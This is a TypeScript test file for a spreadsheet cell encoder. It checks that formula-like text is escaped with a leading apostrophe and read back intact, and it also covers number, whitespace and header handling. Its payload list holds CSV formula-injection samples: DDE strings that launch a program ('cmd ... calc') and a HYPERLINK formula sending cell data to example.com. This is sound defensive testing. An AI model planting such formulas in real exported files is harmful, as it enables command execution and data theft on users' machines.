import t from 'tap'
import {
  digitsAreLost,
  readHeader,
  readText,
  trimCell,
  writeHeader,
  writeText,
} from '../../../src/protocols/sheets/text-cells.ts'

/** What has made spreadsheets run programs or call other hosts. */
const payloads = [
  '=1+1',
  "=cmd|' /C calc'!A0",
  "+1+cmd|' /C calc'!A0",
  "-2+3+cmd|' /C calc'!A0",
  "@SUM(1+9)*cmd|' /C calc'!A0",
  '=HYPERLINK("https://example.com?"&A1,"x")',
  '\t=1+1',
  '\r=1+1',
  '＝1+1',
  '＋1＋1',
  '－1',
  '＠SUM(1)',
  '-',
  '=',
]

t.test(
  'nothing that a spreadsheet would compute is written as it is, and all of it comes back',
  async t => {
    for (const payload of payloads) {
      t.equal(writeText(payload), `'${payload}`)
      t.equal(readText(writeText(payload)), payload)
    }
  },
)

t.test('numbers are left alone, signs and all', async t => {
  for (const number of ['0', '-5', '+86', '3.14', '-2.5e-3', '1e5', '007']) {
    t.equal(writeText(number), number)
    t.equal(readText(number), number)
  }
})

t.test('blanks, no-break spaces and byte order marks around a text are not part of it', async t => {
  t.equal(trimCell('\ufeff\u00a0 轴承\u3000\t\u200b'), '轴承')
  t.equal(readText(' \u00a0 '), null)
  t.equal(readText(''), null)
})

t.test(
  'a mark in front of a number is taken off, one in front of a word is part of it',
  async t => {
    t.equal(readText("'000123"), '000123')
    t.equal(readText(" '000123 "), '000123')
    t.equal(readText("'tis"), "'tis")
    t.equal(readText("''tis"), "'tis")
    t.equal(readText("'"), '', 'an empty text, as we write it')
  },
)

t.test('long digits that a spreadsheet has rounded are known by how they look', async t => {
  for (const text of ['6.90123E+17', '1.23457E+11', '1E+20', '-9.1E+18'])
    t.ok(digitsAreLost(text), text)
  for (const text of ['1E+5', '6.9E-12', '690123456789012345', 'E+12', '88.118.8/1E+20']) {
    t.notOk(digitsAreLost(text), text)
  }
})

t.test(
  'headers are half-width and without blanks; one that is not so of itself is marked',
  async t => {
    t.equal(readHeader('\ufeff ＵＲＬ　'), 'URL')
    t.equal(readHeader('２：ＵＲＬ'), '2:URL')
    t.equal(readHeader('标识 '), '标识')
    for (const name of ['ＵＲＬ', ' x', '=x', "'x", 'URL', ''])
      t.equal(readHeader(writeHeader(name)), name)
  },
)
